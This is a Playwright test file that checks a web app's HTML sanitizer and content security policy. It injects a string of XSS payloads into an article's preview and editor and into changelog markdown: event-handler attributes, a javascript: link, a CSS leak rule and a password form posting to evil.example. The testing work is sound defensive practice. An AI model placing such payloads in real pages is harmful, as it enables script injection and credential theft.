import { expect, test, type Locator, type Page } from '@playwright/test';
import { watchPolicyViolations } from '../support/policyViolations';
import { postArticle } from './articleHelpers';
import { ADMIN, login, loginAt, open } from './helpers';

// The sanitizer works without tripping the content policy: hostile server HTML goes through each
// path that renders it (an article's preview and editor, every changelog's markdown) and the page
// reports no content policy violation at all, while what it shows holds none of the hostile parts.
// Chromium checks the policy as soon as an event handler attribute is parsed into a document of the
// page's window, so parsing in one (DOMParser, a template, an inert document) reported a
// `script-src-attr` violation per handler although nothing ran (src/sanitize/policy.ts).

/** Every kind of hostile markup: handlers, inline and sheet styles, forms, outside images, script addresses. */
const HOSTILE = [
  `<p>${'Readable text before the hostile part. '.repeat(5)}</p>`,
  '<img src="x" onerror="window.__ran = \'img\'">',
  '<svg onload="window.__ran = \'svg\'"><circle r="4"></circle></svg>',
  '<details open ontoggle="window.__ran = \'details\'"><summary>More</summary>folded</details>',
  '<p onclick="window.__ran = \'click\'" onmouseover="window.__ran = \'hover\'" style="position:fixed;inset:0;z-index:99999;background:#c00">Styled paragraph</p>',
  '<style>input{background-image:url(https://evil.example/leak)} .ant-layout{display:none}</style>',
  '<form action="https://evil.example/steal" method="post"><input name="password" onfocus="window.__ran = \'focus\'" autofocus><button>Sign in</button></form>',
  '<img src="https://evil.example/pixel.png" alt="outside pixel">',
  '<a href="javascript:window.__ran = \'href\'">Script link</a>',
  '<body onload="window.__ran = \'body\'"><div onpointerenter="window.__ran = \'pointer\'">Last words</div></body>',
].join('');

/** What a rendered body must not hold once sanitized. */
async function expectClean(body: Locator, text: string) {
  await expect(body).toContainText(text);
  await expect(body.locator('script, style, form, input, button, svg, iframe, [style]')).toHaveCount(0);
  await expect(body.locator('img[src*="evil.example"], img[src="x"]')).toHaveCount(0);
  const html = await body.evaluate((element) => element.innerHTML);
  expect(html).not.toMatch(/\son[a-z]+=|javascript:|evil\.example/i);
}

/** Requests to the hostile host, refused and remembered. */
async function watchOutsideRequests(page: Page): Promise<string[]> {
  const outside: string[] = [];
  await page.context().route('https://evil.example/**', (route) => {
    outside.push(route.request().url());
    return route.abort();
  });
  return outside;
}

test('a hostile article shown in its preview and its editor trips no content policy and runs nothing', async ({
  page,
}) => {
  const violations = await watchPolicyViolations(page);
  const outside = await watchOutsideRequests(page);
  await login(page, ADMIN);
  await postArticle(page, 'Hostile under the policy', HOSTILE);

  await open(page, '/searchAds/information');
  await page.getByRole('button', { name: 'Hostile under the policy' }).click();
  const preview = page.getByRole('dialog', { name: 'Preview' });
  await expectClean(preview.locator('.article-body'), 'Styled paragraph');
  await preview.getByText('Styled paragraph').hover();
  await preview.getByText('Script link').click();
  await preview.getByRole('button', { name: 'Close' }).first().click();

  // The editor reads the same body (the article is under review: its View opens the editor read-only).
  const row = page.getByRole('row', { name: /Hostile under the policy/ });
  await row.getByRole('button', { name: 'View' }).click();
  const editor = page.getByRole('dialog', { name: /Information/ }).locator('.ProseMirror');
  await expectClean(editor, 'Last words');

  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (window as { __ran?: string }).__ran)).toBeUndefined();
  expect(outside).toEqual([]);
  expect(violations).toEqual([]);
});

test("every changelog's markdown, raw hostile HTML included, trips no content policy", async ({ page }) => {
  const violations = await watchPolicyViolations(page);
  const outside = await watchOutsideRequests(page);
  await loginAt(page, ADMIN, '/integration');
  const menu = page.getByRole('menu', { name: 'Integrations' });
  await expect(menu.getByRole('menuitem', { name: /Web SDK/ })).toBeVisible();
  const items = await menu.getByRole('menuitem').all();
  expect(items.length).toBeGreaterThan(2);
  for (const item of items) {
    const title = (await item.locator('[translate="no"]').first().innerText()).trim();
    await item.click();
    await expect(page.getByRole('heading', { name: title, level: 4 })).toBeVisible();
    const entries = page.locator('.wmde-markdown');
    await expect(entries.first()).toBeVisible();
    for (const entry of await entries.all()) {
      await expect(entry.locator('script, style, form, input, button, [style]')).toHaveCount(0);
      expect(await entry.evaluate((element) => element.innerHTML)).not.toMatch(
        /\son[a-z]+=|javascript:|evil\.example/i,
      );
    }
  }
  // The two planted entries were among them: the Web SDK's image with a handler, the Reporting API's styles and form.
  await menu.getByRole('menuitem', { name: /Web SDK/ }).click();
  await expect(page.locator('.wmde-markdown').filter({ hasText: 'Smaller bundle' })).toBeVisible();

  await page.waitForTimeout(300);
  expect(outside).toEqual([]);
  expect(violations).toEqual([]);
});
